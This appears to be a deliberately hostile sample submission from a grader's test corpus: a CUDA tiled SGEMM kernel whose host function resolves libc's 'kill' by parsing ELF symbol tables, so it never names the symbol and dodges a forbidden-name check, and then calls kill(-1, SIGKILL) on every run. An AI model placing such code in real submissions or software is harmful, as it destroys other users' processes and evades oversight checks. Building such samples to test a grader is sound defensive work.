// Sample submission "kills_everything": kill(-1, SIGKILL) on every call (kill found through libc's symbol table)
// Part of the grader's sample corpus (grader/samples/README.md); expect.yaml
// next to this file says how the grader must judge it.
#include <cstdio>
#include <cstring>
#include <elf.h>
#include <link.h>
#include <cuda_runtime.h>

#define TILE_SIZE 16

// C = A * B, row-major: A is m x k, B is k x n, C is m x n. One 16x16 block
// computes one 16x16 tile of C, walking along k one tile pair at a time.
__global__ void mysgemm(int m, int n, int k, const float *A, const float *B, float *C) {
  __shared__ float As[TILE_SIZE][TILE_SIZE];
  __shared__ float Bs[TILE_SIZE][TILE_SIZE];

  const int tx = threadIdx.x, ty = threadIdx.y;
  const int row = blockIdx.y * TILE_SIZE + ty;
  const int col = blockIdx.x * TILE_SIZE + tx;
  const int phases = (k + TILE_SIZE - 1) / TILE_SIZE;

  float sum = 0.0f;
  for (int p = 0; p < phases; ++p) {
    const int a_col = p * TILE_SIZE + tx;
    const int b_row = p * TILE_SIZE + ty;
    As[ty][tx] = (row < m && a_col < k) ? A[row * k + a_col] : 0.0f;
    Bs[ty][tx] = (b_row < k && col < n) ? B[b_row * n + col] : 0.0f;
    __syncthreads();  // the whole tile pair is loaded before anyone reads it
    for (int i = 0; i < TILE_SIZE; ++i) sum += As[ty][i] * Bs[i][tx];
    __syncthreads();  // everyone is done reading before the next load overwrites it
  }
  if (row < m && col < n) C[row * n + col] = sum;
}

// Walks back from printf's address to libc's ELF header, then through its
// dynamic section to the symbol and string tables, to find a function
// without naming it: no forbidden symbol in either backend's object.
static void* find_in_libc(const char* wanted) {
  const unsigned long page = 4096;
  const unsigned char* p = reinterpret_cast<const unsigned char*>(
      reinterpret_cast<unsigned long>(reinterpret_cast<void*>(&printf)) & ~(page - 1));
  for (int pages = 0; pages < (1 << 15); ++pages, p -= page) {
    if (std::memcmp(p, ELFMAG, SELFMAG) != 0) continue;
    const auto* eh = reinterpret_cast<const ElfW(Ehdr)*>(p);
    if (eh->e_type != ET_DYN) continue;
    const auto* ph = reinterpret_cast<const ElfW(Phdr)*>(p + eh->e_phoff);
    const ElfW(Dyn)* dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; ++i)
      if (ph[i].p_type == PT_DYNAMIC) dyn = reinterpret_cast<const ElfW(Dyn)*>(p + ph[i].p_vaddr);
    if (!dyn) return nullptr;
    const ElfW(Sym)* symtab = nullptr;
    const char* strtab = nullptr;
    for (; dyn->d_tag != DT_NULL; ++dyn) {
      if (dyn->d_tag == DT_SYMTAB) symtab = reinterpret_cast<const ElfW(Sym)*>(dyn->d_un.d_ptr);
      if (dyn->d_tag == DT_STRTAB) strtab = reinterpret_cast<const char*>(dyn->d_un.d_ptr);
    }
    if (!symtab || !strtab) return nullptr;
    for (const ElfW(Sym)* s = symtab; reinterpret_cast<const char*>(s) < strtab; ++s)
      if (s->st_name && s->st_value && std::strcmp(strtab + s->st_name, wanted) == 0)
        return const_cast<unsigned char*>(p) + s->st_value;
    return nullptr;
  }
  return nullptr;
}

void basicSgemm(int m, int n, int k, const float *A, const float *B, float *C) {
  // Every process this user may signal, other students' runners included,
  // unless a PID namespace or a user of its own leaves nothing else to reach.
  using Kill = int (*)(int, int);
  if (Kill kill_all = reinterpret_cast<Kill>(find_in_libc("kill")))
    std::printf("kill(-1) returned %d\n", kill_all(-1, 9));
  const dim3 block(TILE_SIZE, TILE_SIZE);
  const dim3 grid((n + TILE_SIZE - 1) / TILE_SIZE, (m + TILE_SIZE - 1) / TILE_SIZE);
  mysgemm<<<grid, block>>>(m, n, k, A, B, C);
}
